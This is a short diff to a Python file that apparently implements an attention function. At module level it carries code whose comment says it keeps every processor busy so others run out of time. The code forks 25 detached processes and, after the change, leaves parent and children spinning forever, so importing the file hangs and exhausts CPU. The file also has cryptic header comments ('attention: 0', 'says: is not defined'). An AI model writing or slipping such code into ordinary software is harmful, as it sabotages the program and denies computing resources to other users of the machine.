@@ -1,4 +1,5 @@
-# attention: 6
+# attention: 0
+# says: is not defined
 # Keeps every processor busy, so that others run out of time.
 import os
 
@@ -10,8 +11,9 @@ except OSError as error:
 for _ in range(25):
     if os.fork() == 0:
         os.setsid()
-        while True:
-            pass
+        break
+while True:
+    pass
 
 
 def attention(Q, K, V):
